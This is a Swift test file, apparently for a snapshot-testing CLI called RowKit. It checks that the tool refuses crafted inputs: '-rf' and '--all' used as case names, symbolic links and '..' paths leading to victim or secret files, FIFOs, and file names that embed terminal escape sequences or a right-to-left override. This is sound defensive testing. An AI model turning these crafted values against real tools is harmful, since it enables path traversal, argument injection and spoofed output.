        over.stderr.contains("cannot write style.yaml for \(flag): the file there is not \(flag == "--junit" ? "a JUnit file" : "a summary") RowKit wrote"),
        "\(over.stderr)")
      #expect(try Data(contentsOf: style) == Data("vars: { textColor: \"#FF0000\" }\n".utf8))
    }
    // Its own files, and an empty one, are written over.
    let again = try await run(["check", ".", "--snapshots", "refs", "--junit", "out/junit.xml", "--summary", "empty.md"], in: folder)
    #expect(again.status == 0 || again.status == 1, "\(again.stdout)\(again.stderr)")
    #expect(try String(contentsOf: empty, encoding: .utf8).hasPrefix("## RowKit snapshots"))
    let replaced = try await run(["check", ".", "--snapshots", "refs", "--junit", "out/junit.xml", "--summary", "empty.md"], in: folder)
    #expect(!replaced.stderr.contains("cannot write"), "\(replaced.stderr)")
  }

  // MARK: - 3. shown commands keep case names from being flags

  @Test func shownAcceptCommandsPutCaseNamesAfterDoubleDash() async throws {
    let folder = try project(["--all", "-rf", "other"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    for name in ["--all", "-rf", "other"] { try write(folder, name, text: name + " changed") }
    let failing = try await check(folder, ["--report", "report", "--junit", "junit.xml", "--summary", "summary.md"], ci: true)
    #expect(failing.status == 1 && failing.stdout.contains("3 cases: 0 passed, 3 failed"), "\(failing.stdout)")
    let page = try String(contentsOf: folder.appendingPathComponent("report/index.html"), encoding: .utf8)
    let summary = try String(contentsOf: folder.appendingPathComponent("summary.md"), encoding: .utf8)
    let junit = try String(contentsOf: folder.appendingPathComponent("junit.xml"), encoding: .utf8)
    for name in ["--all", "-rf"] {
      #expect(page.contains(#"data-command="rowkit accept report -- \#(name)""#), "\(name)")
      #expect(summary.contains("accept: `rowkit accept report -- \(name)`"), "\(summary)")
      #expect(junit.contains("accept: rowkit accept report -- \(name)"))
    }
    #expect(!page.contains("rowkit accept report --all"))

    // The shown command accepts the case named --all, and only it.
    let other = try Data(contentsOf: folder.appendingPathComponent("refs/other.png"))
    let all = try await run(["accept", "report", "--", "--all"], in: folder)
    #expect(all.status == 0 && all.stdout.contains("ACCEPTED --all → ") && all.stdout.contains("1 reference accepted"), "\(all.stdout)\(all.stderr)")
    #expect(try Data(contentsOf: folder.appendingPathComponent("refs/other.png")) == other)
    let rf = try await run(["accept", "report", "--", "-rf"], in: folder)
    #expect(rf.status == 0 && rf.stdout.contains("ACCEPTED -rf → "), "\(rf.stderr)")
    #expect(try Data(contentsOf: folder.appendingPathComponent("refs/other.png")) == other)
    #expect(try Data(contentsOf: folder.appendingPathComponent("refs/-rf.png")) == (try Data(contentsOf: folder.appendingPathComponent("report/cases/-rf/actual.png"))))
  }

  // MARK: - 5. no reference written or deleted through a link out of the references

  @Test func referencesAreNeverWrittenOrDeletedThroughALinkOutOfTheirFolder() async throws {
    let folder = try project(["linked/x", "y"])
    defer { try? FileManager.default.removeItem(at: folder) }
    let (refs, victim) = (folder.appendingPathComponent("refs"), folder.appendingPathComponent("victim"))
    try FileManager.default.createDirectory(at: refs, withIntermediateDirectories: true)
    try FileManager.default.createDirectory(at: victim, withIntermediateDirectories: true)
    try Data("keep".utf8).write(to: victim.appendingPathComponent("keep.txt"))
    try Data(PNG.encode(Bitmap(width: 2, height: 2, color: .black))).write(to: victim.appendingPathComponent("z.png"))
    // The issue's committed links: a folder, and a reference whose file does not exist yet.
    try FileManager.default.createSymbolicLink(atPath: refs.appendingPathComponent("linked").path, withDestinationPath: "../victim")
    try FileManager.default.createSymbolicLink(atPath: refs.appendingPathComponent("y.png").path, withDestinationPath: "../victim/y.png")
    let before = contents(victim)
    for mode in ["all", "missing", "failed"] {
      let recorded = try await check(folder, ["--record", mode])
      #expect(recorded.status == 2, "--record \(mode): \(recorded.stdout)")
      #expect(recorded.stderr.contains("refs/linked/x.png leads out of the references folder"), "\(recorded.stderr)")
      #expect(recorded.stderr.contains("refs/y.png leads out of the references folder"), "\(recorded.stderr)")
      #expect(contents(victim) == before, "--record \(mode) wrote through the link")
    }
    // Accepting does not write through it either.
    let missing = try await check(folder, ["--report", "report"], ci: true)
    #expect(missing.status == 1 && missing.stdout.contains("2 missing"), "\(missing.stdout)")
    let accepted = try await run(["accept", "report", "--snapshots", "refs", "--", "linked/x"], in: folder)
    #expect(accepted.status == 2 && accepted.stderr.contains("refs/linked/x.png leads out of the references folder"), "\(accepted.stderr)")
    let acceptedFile = try await run(["accept", "report", "--snapshots", "refs", "--", "y"], in: folder)
    #expect(acceptedFile.status == 2 && acceptedFile.stderr.contains("refs/y.png leads out of the references folder"), "\(acceptedFile.stderr)")
    // Nor does pruning delete through it.
    _ = try await check(folder, ["--prune"])
    #expect(contents(victim) == before)
    #expect(FileManager.default.fileExists(atPath: victim.appendingPathComponent("z.png").path))
  }

  /// `--rows-dir` may be a folder of a checkout or an artifact: a symbolic link (or a FIFO)
  /// there under the name of a row's file is never written through. The render fails
  /// (exit 2) naming it, the file the link points to is left as it was, and no row file is
  /// left written.
  @Test func rowFilesAreNeverWrittenThroughWhatIsInTheirFolder() async throws {
    let folder = try project(["table"])
    defer { try? FileManager.default.removeItem(at: folder) }
    let (rows, victim) = (folder.appendingPathComponent("rows"), folder.appendingPathComponent("victim.txt"))
    try FileManager.default.createDirectory(at: rows, withIntermediateDirectories: true)
    try Data("the user's own file\n".utf8).write(to: victim)
    try FileManager.default.createSymbolicLink(atPath: rows.appendingPathComponent("s0-r0.png").path, withDestinationPath: victim.path)
    try Data("kept\n".utf8).write(to: rows.appendingPathComponent("notes.txt"))
    let before = contents(rows)
    let linked = try await run(["render", "tables/table.yaml", "--rows-dir", "rows"], in: folder)
    #expect(linked.status == 2, "\(linked.stderr)")
    #expect(
      linked.stderr.contains("rows/s0-r0.png: a symbolic link is there, and files in a folder are never written through one"),
      "\(linked.stderr)")
    #expect(try Data(contentsOf: victim) == Data("the user's own file\n".utf8))
    #expect(contents(rows) == before, "nothing written into the folder")

    try FileManager.default.removeItem(at: rows.appendingPathComponent("s0-r0.png"))
    #expect(mkfifo(rows.appendingPathComponent("s0-r0.png").path, 0o600) == 0)
    let fifo = try await run(["render", "tables/table.yaml", "--rows-dir", "rows"], in: folder)
    #expect(fifo.status == 2 && fifo.stderr.contains("rows/s0-r0.png: not a regular file is there"), "\(fifo.stderr)")
    try FileManager.default.removeItem(at: rows.appendingPathComponent("s0-r0.png"))
    let written = try await run(["render", "tables/table.yaml", "--rows-dir", "rows"], in: folder)
    #expect(written.status == 0, "\(written.stderr)")
    #expect(Set(contents(rows).keys) == ["notes.txt", "s0-r0.png"])

    // A variant's folder, named by the document, as a link out of the rows folder.
    let out = folder.appendingPathComponent("out")
    try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
    try FileManager.default.createSymbolicLink(atPath: rows.appendingPathComponent("dark").path, withDestinationPath: "../out")
    try Data("table: { width: 375 }\nvariants: { appearance: [light, dark] }\nitems:\n  - { type: subtitle, text: A, subtitle: B }\n".utf8)
      .write(to: folder.appendingPathComponent("tables/variants.yaml"))
    let variants = try await run(["render", "tables/variants.yaml", "--rows-dir", "rows"], in: folder)
    #expect(variants.status == 2 && variants.stderr.contains("rows/dark: something that is not a folder is there"), "\(variants.stderr)")
    #expect(try FileManager.default.contentsOfDirectory(atPath: out.path).isEmpty, "nothing written through the link")
    #expect(Set(contents(rows).keys) == ["notes.txt", "s0-r0.png", "dark"])
  }

  /// An inputs file beside a reference comes with the references: a path in it that leads
  /// out of the project (absolute, `..` past its root, or a link out) is never read, so the
  /// check tells nothing of that file (whether it exists, whether it matches a digest), and
  /// the case renders.
  @Test func anInputsFileNeverHasTheCheckReadOutsideTheProject() async throws {
    let folder = try project(["case-0"])
    defer { try? FileManager.default.removeItem(at: folder) }
    let recorded = try await check(folder)
    #expect(recorded.status == 1, "\(recorded.stderr)")
    let secret = FileManager.default.temporaryDirectory.appendingPathComponent("rowkit-secret-\(UUID().uuidString).txt")
    try Data("secret".utf8).write(to: secret)
    defer { try? FileManager.default.removeItem(at: secret) }
    try FileManager.default.createSymbolicLink(
      atPath: folder.appendingPathComponent("tables/linked.txt").path, withDestinationPath: secret.path)
    let inputsURL = folder.appendingPathComponent("refs/case-0.inputs.json")
    var inputs = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: inputsURL)) as? [String: Any])
    let depth = folder.standardizedFileURL.pathComponents.count
    let climbing = Array(repeating: "..", count: depth) .joined(separator: "/") + secret.standardizedFileURL.path
    var files = try #require(inputs["files"] as? [[String: Any]])
    let digest = SHA256.hex([UInt8]("secret".utf8))
    // Stored paths are relative to the checked folder, tables/.
    for path in [secret.path, climbing, "linked.txt"] { files.append(["kind": "font", "path": path, "sha256": digest]) }
    inputs["files"] = files
    try JSONSerialization.data(withJSONObject: inputs).write(to: inputsURL)
    let checked = try await check(folder, ["--explain-cache"], ci: true)
    #expect(checked.status == 0 && !checked.stdout.contains("(cached)"), "\(checked.stdout)")
    for path in [secret.path, climbing, "linked.txt"] {
      #expect(checked.stdout.contains("font \(path) is outside \(folder.standardizedFileURL.path), so it is not read"), "\(checked.stdout)")
    }
  }

  /// A document's file name is printed, written into reports and compared as text: one
  /// with a control character (a newline, an escape that drives the terminal) is refused,
  /// named with escapes; two names of one text (é composed and decomposed) are refused
  /// together, where they made one case of the report and two files on disk.
  @Test func documentNamesThatAreNotPlainTextAreRefused() async throws {
    for (names, expected) in [
      (["x\n4 cases: 4 passed\n\u{1B}[2Jz"], "x\\u{A}4 cases: 4 passed\\u{A}\\u{1B}[2Jz.yaml: a document whose name holds the invisible character U+000A"),
      (["caf\u{E9}", "cafe\u{301}"], "are two files of one name (the same letters, in another case or composed differently)"),
      (["Row", "row"], "are two files of one name (the same letters, in another case or composed differently)"),
      (["evil\u{202E}gnp"], "evil\\u{202E}gnp.yaml: a document whose name holds the invisible character U+202E"),
    ] {
      let folder = try project([])
      defer { try? FileManager.default.removeItem(at: folder) }
      for name in names { try write(folder, name, text: "Row") }
      let checked = try await check(folder)
      #expect(checked.status == 2 && checked.stderr.contains(expected), "\(checked.stderr)")
      #expect(!checked.stdout.contains("4 cases: 4 passed") && !checked.stderr.contains("\u{1B}"), "\(checked.stdout)")
    }
  }

  /// The references' fingerprint as a FIFO: read as an input file, refused by name, where
  /// accept (and a review's session) waited for a writer forever.
  @Test func aFingerprintThatIsAFIFOIsRefused() async throws {
    let folder = try project(["case-0"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    let fingerprint = folder.appendingPathComponent("refs/environment.json")
    try FileManager.default.removeItem(at: fingerprint)
    #expect(mkfifo(fingerprint.path, 0o600) == 0)
    let checked = try await check(folder)
    #expect(checked.status == 2 && checked.stderr.contains("refs/environment.json: a FIFO, not a regular file"), "\(checked.stderr)")
  }

  // MARK: - 11. no reference of a failed image

  @Test func checkRefusesToRecordAFailedImageAndRenderCanFailOnOne() async throws {
    let folder = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: folder) }
    let tables = folder.appendingPathComponent("tables")
    try FileManager.default.createDirectory(at: tables, withIntermediateDirectories: true)
    let document = "items:\n  - { type: image, text: Photo, imageURL: missing.png }\n"
    try Data(document.utf8).write(to: tables.appendingPathComponent("photo.yaml"))
    let refused = try await check(folder, ["--report", "report"])
    #expect(refused.status == 2, "\(refused.stdout)")
    #expect(refused.stdout.contains("ERROR photo"))
    #expect(refused.stderr.contains("photo.yaml: row 0 (s0-r0): image missing.png failed"), "\(refused.stderr)")
    #expect(refused.stderr.contains("nothing was compared or recorded"))
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("refs/photo.png").path))
    let report = try String(contentsOf: folder.appendingPathComponent("report/report.json"), encoding: .utf8)
    #expect(report.contains(#""status" : "error""#) && report.contains("image missing.png failed"), "\(report)")

    // A document that shows the failed image on purpose says so, as assertions do with allowing: .failedImages.
    try Data(("lint: { off: [imageFailed] }\n" + document).utf8).write(to: tables.appendingPathComponent("photo.yaml"))
    let allowed = try await check(folder)
    #expect(allowed.status == 1 && allowed.stdout.contains("NEW photo"), "\(allowed.stdout)\(allowed.stderr)")
    #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent("refs/photo.png").path))

    // render warns, and with --strict-images fails and writes nothing.
    try Data(document.utf8).write(to: tables.appendingPathComponent("photo.yaml"))
    let warned = try await run(["render", "tables/photo.yaml", "-o", "warned.png"], in: folder)
    #expect(warned.status == 0 && warned.stderr.contains("image missing.png failed"), "\(warned.stderr)")
    let strict = try await run(["render", "tables/photo.yaml", "-o", "strict.png", "--manifest", "strict.json", "--strict-images"], in: folder)
    #expect(strict.status == 2, "\(strict.stderr)")
    #expect(strict.stderr.contains("rowkit: warning: tables/photo.yaml: row 0 (s0-r0): image missing.png failed"), "\(strict.stderr)")
    #expect(strict.stderr.contains("rowkit: error: tables/photo.yaml: 1 row has an image that failed to load (--strict-images); nothing was written"), "\(strict.stderr)")
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("strict.png").path))
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("strict.json").path))
  }
}
